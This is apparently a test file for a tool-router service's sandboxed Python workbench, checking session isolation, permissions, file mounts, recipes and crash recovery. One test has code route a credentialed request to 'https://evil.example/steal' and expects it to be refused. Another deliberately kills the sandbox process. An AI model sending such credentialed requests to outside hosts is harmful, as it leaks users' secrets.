import { buffer } from 'node:stream/consumers'
import { afterAll, beforeEach, expect, test } from 'vitest'
import { startUpstream } from '../../../conformance/rigs/upstream.ts'
import { testServer } from '../../test/harness.ts'
import { describeSandboxed } from '../../test/sandboxes.ts'
import { findMountFile } from '../files/mount-files.ts'
import { readBytes } from '../files/files.ts'

const upstream = await startUpstream()
const secret = 're_workbench_secret_key'
const server = await testServer({
  config: {
    toolkits: {
      hackernews: { base_url: `${upstream.url}/echo` },
      resend: { base_url: `${upstream.url}/echo` },
    },
    egress: { allow_private: [new URL(upstream.url).host] },
  },
  env: { PATCHBAY_WORKBENCH_SPARE: '0' },
})
const off = await testServer({ env: { PATCHBAY_WORKBENCH: 'none' } })
afterAll(async () => {
  await server.close()
  await off.close()
  await upstream.close()
})
beforeEach(() => upstream.clear())

const at = (session: string, path = '') => `/tool_router/session/${session}${path}`

async function createSession(body: object = {}, user = 'alice'): Promise<string> {
  const created = await server.call('POST', '/tool_router/session', { body: { user_id: user, ...body } })
  expect(created.status, JSON.stringify(created.body)).toBe(201)
  return created.body.session_id
}

async function meta(session: string, slug: string, args: object) {
  const { status, body } = await server.call('POST', at(session, '/execute_meta'), {
    body: { slug, arguments: args },
  })
  expect(status, JSON.stringify(body)).toBe(200)
  return body
}

const python = (session: string, code: string) =>
  meta(session, 'COMPOSIO_REMOTE_WORKBENCH', { code_to_execute: code })

async function fileText(sessionId: string, path: string): Promise<string> {
  const mount = { projectId: server.projectId, sessionId }
  return (
    await buffer(await readBytes(server.deps, await findMountFile(server.deps, mount, path)))
  ).toString()
}

async function connectResend(user: string): Promise<string> {
  const { body: config } = await server.call('POST', '/auth_configs', {
    body: { toolkit: { slug: 'resend' }, auth_config: { type: 'use_custom_auth', authScheme: 'API_KEY' } },
  })
  const { body } = await server.call('POST', '/connected_accounts', {
    body: {
      auth_config: { id: config.auth_config.id },
      connection: {
        user_id: user,
        state: { authScheme: 'API_KEY', val: { status: 'ACTIVE', generic_api_key: secret } },
      },
    },
  })
  return body.id
}

describeSandboxed('the workbench of a session', () => {
  test('keeps variables between calls, and says when the sandbox is new', async () => {
    const session = await createSession()
    const first = await python(session, 'total = 20 + 1\ntotal')
    expect(first).toMatchObject({ error: null, data: { results: '21', stdout: '', error: '' } })
    expect(first.data.notes).toStrictEqual([expect.stringContaining('new sandbox')])
    const second = await python(session, 'total * 2')
    expect(second.data).toStrictEqual({ stdout: '', stderr: '', results: '42', error: '' })
    const failed = await python(session, 'total / 0')
    expect(failed).toMatchObject({ error: 'ZeroDivisionError: division by zero' })
    expect(failed.data.error).toContain('line 1')
    const bash = await meta(session, 'COMPOSIO_REMOTE_BASH_TOOL', { command: 'echo hi; exit 4' })
    expect(bash).toMatchObject({ error: null, data: { stdout: 'hi\n', exit_code: 4 } })
  })

  test('files pass between the mount and the sandbox, and outlive it', async () => {
    const session = await createSession()
    const mount = at(session, '/mounts/files')
    await python(session, 'open("/mnt/files/out.csv", "w").write("a,b\\n1,2\\n")')
    expect(await fileText(session, 'out.csv')).toBe('a,b\n1,2\n')
    const place = { mount_relative_path: 'in/put.txt', mimetype: 'text/plain' }
    const { body: link } = await server.call('POST', `${mount}/upload_url`, { body: place })
    const put = await server.app.inject({
      method: 'PUT',
      url: new URL(link.upload_url).pathname + new URL(link.upload_url).search,
      headers: { 'content-type': 'text/plain' },
      payload: 'from outside',
    })
    expect(put.statusCode).toBe(200)
    await server.deps.workbench.end(session, 'a test ended it')
    const read = await python(
      session,
      'open("/mnt/files/in/put.txt").read(), open("/mnt/files/out.csv").read()',
    )
    expect(read.data.results).toBe("('from outside', 'a,b\\n1,2\\n')")
    await server.call('POST', `${mount}/delete`, { body: { mount_relative_path: 'in/put.txt' } })
    expect((await python(session, 'os.path.exists("/mnt/files/in/put.txt")')).data.results).toBe('False')
    await python(session, 'os.remove("/mnt/files/out.csv")')
    const { body: items } = await server.call('GET', `${mount}/items`)
    expect(items.items).toStrictEqual([])
  })

  test('runs tools by the rules of the session, with its accounts, and never sees a credential', async () => {
    await connectResend('alice')
    const session = await createSession({ toolkits: { enable: ['resend', 'hackernews'] } })
    const ran = await python(
      session,
      `
ok, error = run_composio_tool("HACKERNEWS_GET_USER", {"username": "pg"})
proxied, proxy_error = proxy_execute("GET", "/domains", "resend", query_params={"limit": 3})
closed = [run_composio_tool("GITHUB_GET_A_REPOSITORY", {"owner": "o", "repo": "r"})[1],
          run_composio_tool("COMPOSIO_REMOTE_WORKBENCH", {"code_to_execute": "1"})[1],
          run_composio_tool("HACKERNEWS_GET_USER", {})[1],
          proxy_execute("GET", "/user", "github")[1],
          proxy_execute("GET", "https://evil.example/steal", "resend")[1],
          web_search("patchbay")[1]]
import json
json.dumps({"ok": ok, "error": error, "proxied": proxied, "proxy_error": proxy_error, "closed": closed})`,
    )
    expect(ran.error).toBe(null)
    const seen = JSON.parse(ran.data.results)
    expect(seen).toMatchObject({ ok: { successful: true }, error: '', proxy_error: '' })
    expect(upstream.calls().some(({ headers }) => headers['authorization'] === `Bearer ${secret}`)).toBe(true)
    expect(ran.data.results).not.toContain(secret)
    expect(seen.closed).toStrictEqual([
      expect.stringContaining('not found in this session'),
      expect.stringContaining('cannot run inside the workbench'),
      expect.stringContaining('username'),
      expect.stringContaining('not enabled in this session'),
      expect.stringMatching(/host/i),
      expect.stringContaining('no app that searches the web'),
    ])
    const { body: logs } = await server.call('POST', '/logs/tool_execution', { body: { limit: 10 } })
    expect(JSON.stringify(logs)).toContain('HACKERNEWS_GET_USER')
  })

  /** What code gets to with every helper, forged calls included: a word each. */
  const reach = (account: string) => `
def word(error): return "reached" if error == "" else "refused"
[word(run_composio_tool("HACKERNEWS_GET_USER", {"username": "pg"})[1]),
 word(run_composio_tool("RESEND_LIST_AUDIENCES", {}, account=${JSON.stringify(account)})[1]),
 word(proxy_execute("GET", "/audiences", "resend")[1])]`

  test('code reaches no tool, account or API that its session does not open, and nothing is sent', async () => {
    const account = await connectResend('owner')
    const session = await createSession({ toolkits: { disable: ['hackernews', 'resend'] } }, 'owner')
    expect((await python(session, reach(account))).data.results).toBe("['refused', 'refused', 'refused']")
    const stranger = await createSession({}, 'stranger')
    expect((await python(stranger, reach(account))).data.results).toBe("['reached', 'refused', 'refused']")
    expect(upstream.calls().map(({ path }) => path)).toStrictEqual(['/echo/users/pg'])
    const other = await server.otherProject()
    const asked = await server.call('POST', at(session, '/execute_meta'), {
      key: other.key,
      body: { slug: 'COMPOSIO_REMOTE_WORKBENCH', arguments: { code_to_execute: '1' } },
    })
    expect(asked.status).toBe(404)
  })

  test('control: the same code reaches all of it in a session that opens it', async () => {
    const account = await connectResend('keeper')
    const session = await createSession({}, 'keeper')
    expect((await python(session, reach(account))).data.results).toBe("['reached', 'reached', 'reached']")
    expect(upstream.calls()).toHaveLength(3)
  })

  test('what the session asks about, it asks about from the workbench, too', async () => {
    const session = await createSession({ experimental: { permissions: { default: 'ask_every_call' } } })
    const { data } = await python(
      session,
      `run_composio_tool("HACKERNEWS_GET_USER", {"username": "pg"})[1] + " / " + proxy_execute("POST", "/emails", "resend", body={})[1]`,
    )
    expect(data.results).toMatch(/approval_required: HACKERNEWS_GET_USER .* \/ approval_required: PROXY /)
    expect(upstream.calls()).toStrictEqual([])
  })

  test('proxy_execute is closed where the session closes it', async () => {
    const session = await createSession({ workbench: { enable_proxy_execution: false } })
    const { data } = await python(session, 'proxy_execute("GET", "/domains", "resend")')
    expect(data.results).toContain('leaves proxy_execute out')
  })

  test('permissions of the session hold for code, too', async () => {
    const session = await createSession({ experimental: { permissions: { default: 'ask_every_call' } } })
    const { data } = await python(session, 'run_composio_tool("HACKERNEWS_GET_USER", {"username": "pg"})[1]')
    expect(data.results).not.toBe('')
    expect(upstream.calls()).toHaveLength(0)
  })

  test('upload_local_file gives a link that downloads the file', async () => {
    const session = await createSession()
    const { data } = await python(
      session,
      'open("report.txt", "w").write("the report")\nr, e = upload_local_file("report.txt")\nprint(e)\nr["s3_url"]',
    )
    expect(data.stdout).toBe('\n')
    const url = new URL(data.results)
    const file = await server.app.inject({ method: 'GET', url: url.pathname + url.search })
    expect(file.body).toBe('the report')
  })

  test('one session never sees the files or variables of another', async () => {
    const [one, two] = [await createSession(), await createSession()]
    await python(one, 'mine = 1\nopen("/mnt/files/mine.txt", "w").write("x")')
    const { data } = await python(two, 'print(os.listdir("/mnt/files"))\nmine')
    expect(data).toMatchObject({ stdout: '[]\n', error: expect.stringContaining('NameError') })
  })

  test('results that are too large to show are kept as a file', async () => {
    const session = await createSession({ workbench: { auto_offload_threshold: 50 } })
    const tools = Array.from({ length: 12 }, (_, index) => ({
      tool_slug: 'HACKERNEWS_GET_USER',
      arguments: { username: `user${index}` },
    }))
    const { data } = await meta(session, 'COMPOSIO_MULTI_EXECUTE_TOOL', { tools })
    expect(data).toMatchObject({ success_count: 12, remote_file_info: { file_path: expect.any(String) } })
    const whole = await python(
      session,
      `json.load(open(${JSON.stringify(data.remote_file_info.file_path)}))["results"][11]["index"]`,
    )
    expect(whole.data.results).toBe('11')
    const direct = await server.call('POST', at(session, '/execute'), {
      body: {
        tool_slug: 'HACKERNEWS_GET_USER',
        arguments: { username: 'x'.repeat(60) },
        enable_auto_workbench_offload: true,
      },
    })
    expect(direct.body.data.remote_file_info.file_path).toMatch(
      /^\/mnt\/files\/responses\/hackernews_get_user-/,
    )
    const roomy = await createSession()
    const small = await meta(roomy, 'COMPOSIO_MULTI_EXECUTE_TOOL', {
      tools: tools.slice(0, 1),
      sync_response_to_workbench: true,
    })
    expect(small.data.results[0].response.successful).toBe(true)
    expect(small.data.remote_file_info).toBeDefined()
  })

  test('a recipe is saved, found and run as a tool, by its own user alone', async () => {
    const session = await createSession()
    const recipe = {
      name: 'Greet people',
      description: 'Greets everyone.',
      workflow_code:
        'user, error = run_composio_tool("HACKERNEWS_GET_USER", {"username": inputs["who"]})\n{"hello": [inputs["who"]] * inputs["times"], "error": error}',
      input_schema: {
        type: 'object',
        properties: { who: { type: 'string' }, times: { type: 'integer' } },
        required: ['who', 'times'],
      },
      defaults_for_required_parameters: { times: 2 },
    }
    const saved = await meta(session, 'COMPOSIO_UPSERT_RECIPE', recipe)
    expect(saved.data).toMatchObject({ tool_slug: 'RECIPE_GREET_PEOPLE', version: 1 })
    const run = (slug: string, args: object, from = session) =>
      server.call('POST', at(from, '/execute'), { body: { tool_slug: slug, arguments: args } })
    const ran = await run('RECIPE_GREET_PEOPLE', { who: 'pg' })
    expect(ran.body).toMatchObject({ error: null, data: { result: { hello: ['pg', 'pg'], error: '' } } })
    expect((await python(session, 'inputs')).error).toMatch(/NameError/)
    const wrong = await run('RECIPE_GREET_PEOPLE', { who: 3, times: 'x' })
    expect(wrong.body.error).toContain('times')
    const again = await meta(session, 'COMPOSIO_UPSERT_RECIPE', {
      ...recipe,
      recipe_id: saved.data.recipe_id,
      workflow_code: '1 / 0',
    })
    expect(again.data.version).toBe(2)
    expect((await run('RECIPE_GREET_PEOPLE', { who: 'pg' })).body.error).toBe(
      'ZeroDivisionError: division by zero',
    )
    const read = await meta(session, 'COMPOSIO_GET_RECIPE', { recipe_id: 'RECIPE_GREET_PEOPLE' })
    expect(read.data).toMatchObject({ workflow_code: '1 / 0', input_schema: recipe.input_schema })
    expect((await meta(session, 'COMPOSIO_GET_RECIPE', {})).data.recipes).toHaveLength(1)
    expect((await meta(session, 'COMPOSIO_UPSERT_RECIPE', recipe)).error).toContain('already')
    const stranger = await createSession({}, 'mallory')
    expect((await run('RECIPE_GREET_PEOPLE', { who: 'x' }, stranger)).body.error).toContain('not found')
    expect((await meta(stranger, 'COMPOSIO_GET_RECIPE', {})).data.recipes).toStrictEqual([])
  })

  test('recipes are found, described and run in batches, like tools, by those who have them', async () => {
    const session = await createSession({}, 'rita')
    await meta(session, 'COMPOSIO_UPSERT_RECIPE', {
      name: 'Weigh crates',
      description: 'Weighs every crate on the harbour dock and adds it up.',
      workflow_code:
        'run_composio_tool("RECIPE_WEIGH_CRATES", {})[1], sum(inputs["crates"]) * inputs["kilos"]',
      input_schema: {
        type: 'object',
        properties: {
          crates: { type: 'array', items: { type: 'integer' }, description: 'How many crates of each kind.' },
          kilos: { type: 'integer' },
        },
        required: ['crates', 'kilos'],
      },
      defaults_for_required_parameters: { kilos: 10 },
    })
    const search = (from: string) =>
      meta(from, 'COMPOSIO_SEARCH_TOOLS', { queries: [{ use_case: 'weigh the crates on the dock' }] })
    const { data: found } = await search(session)
    expect(found.results[0].primary_tool_slugs[0]).toBe('RECIPE_WEIGH_CRATES')
    expect(found.tool_schemas.RECIPE_WEIGH_CRATES.input_schema.required).toStrictEqual(['crates'])
    expect(found.toolkit_connection_statuses).toContainEqual(
      expect.objectContaining({
        toolkit: 'composio',
        has_active_connection: true,
        status_message: expect.stringContaining('workbench'),
      }),
    )
    expect(found.next_steps_guidance.join(' ')).not.toContain('your own client')
    const { body: rest } = await server.call('POST', at(session, '/search'), {
      body: { queries: [{ use_case: 'weigh the crates on the dock' }] },
    })
    expect(rest.results[0].primary_tool_slugs).toContain('RECIPE_WEIGH_CRATES')
    const schemas = (from: string) =>
      meta(from, 'COMPOSIO_GET_TOOL_SCHEMAS', { tool_slugs: ['RECIPE_WEIGH_CRATES', 'RECIPE_NONE'] })
    const { data: described } = await schemas(session)
    expect(described).toMatchObject({ success: false, not_found: ['RECIPE_NONE'] })
    expect(described.tool_schemas.RECIPE_WEIGH_CRATES).toMatchObject({
      description: 'Weighs every crate on the harbour dock and adds it up.',
      input_schema: { properties: { crates: { type: 'array' } } },
    })
    const batch = (from: string) =>
      meta(from, 'COMPOSIO_MULTI_EXECUTE_TOOL', {
        tools: [
          { tool_slug: 'HACKERNEWS_GET_USER', arguments: { username: 'pg' } },
          { tool_slug: 'RECIPE_WEIGH_CRATES', arguments: { crates: [1, 2] } },
          { tool_slug: 'RECIPE_WEIGH_CRATES', arguments: { crates: [4], kilos: 1 } },
          { tool_slug: 'RECIPE_WEIGH_CRATES', arguments: { crates: 'many' } },
        ],
      })
    const { data: ran } = await batch(session)
    expect(ran).toMatchObject({ success_count: 3, error_count: 1 })
    const inside = 'RECIPE_WEIGH_CRATES cannot run inside the workbench'
    const results: { response: { successful: boolean; data: { result?: unknown } } }[] = ran.results
    expect(results.map(({ response }) => response.data.result ?? response.successful)).toStrictEqual([
      true,
      [inside, 30],
      [inside, 4],
      false,
    ])
    expect(ran.results[3].error).toContain('crates')

    const stranger = await createSession({}, 'mallory')
    const closed = await createSession({ workbench: { enable: false } }, 'rita')
    for (const other of [stranger, closed]) {
      const answers = JSON.stringify([await search(other), await schemas(other)])
      expect(answers).not.toContain('Weighs every crate')
      expect((await batch(other)).data).toMatchObject({ success_count: 1, error_count: 3 })
    }
  })

  test('a call that kills the sandbox is told of, and the files of calls before it are there', async () => {
    const session = await createSession()
    await python(session, 'open("/mnt/files/kept.txt", "w").write("kept")')
    const killed = await python(session, 'import os, signal\nos.kill(os.getppid(), signal.SIGKILL)')
    expect(killed).toMatchObject({
      error: expect.stringContaining('The sandbox ended: its first process is gone'),
      data: { failure: { kind: 'outcome_unknown', retryable: false } },
    })
    const next = await python(session, 'open("/mnt/files/kept.txt").read()')
    expect(next.data.results).toBe('kept')
    expect(next.data.notes[0]).toContain('new sandbox')
  })

  test('deleting the session ends its sandbox', async () => {
    const session = await createSession()
    await python(session, '1')
    const before = (await server.deps.workbench.usage()).sandboxes
    await server.call('DELETE', at(session))
    expect((await server.deps.workbench.usage()).sandboxes).toBe(before - 1)
  })
})

test('a session without a workbench neither shows its tools nor runs them', async () => {
  const session = await createSession({ workbench: { enable: false } })
  const { body } = await server.call('GET', at(session))
  expect(body.tool_router_tools).not.toContain('COMPOSIO_REMOTE_WORKBENCH')
  for (const slug of ['COMPOSIO_REMOTE_WORKBENCH', 'COMPOSIO_REMOTE_BASH_TOOL', 'COMPOSIO_GET_RECIPE']) {
    const refused = await server.call('POST', at(session, '/execute_meta'), { body: { slug, arguments: {} } })
    expect(refused.status).toBe(400)
    expect(refused.body.error.message).toContain('not found in this session')
  }
})

test('a server without sandboxes says so, and shows results whole', async () => {
  const { body: session } = await off.call('POST', '/tool_router/session', { body: { user_id: 'alice' } })
  const ran = await off.call('POST', at(session.session_id, '/execute_meta'), {
    body: { slug: 'COMPOSIO_REMOTE_WORKBENCH', arguments: { code_to_execute: '1' } },
  })
  expect(ran.body.error).toContain('This server cannot run code: switched off by PATCHBAY_WORKBENCH')
  const { body } = await off.app.inject({ method: 'GET', url: '/readyz' })
  expect(JSON.parse(body).checks.workbench).toBe('none: switched off by PATCHBAY_WORKBENCH')
})

test('code cannot be previewed', async () => {
  const session = await createSession()
  const refused = await server.call('POST', at(session, '/execute'), {
    body: { tool_slug: 'COMPOSIO_REMOTE_BASH_TOOL', arguments: { command: 'true' }, preview: true },
  })
  expect(refused.status).toBe(400)
})
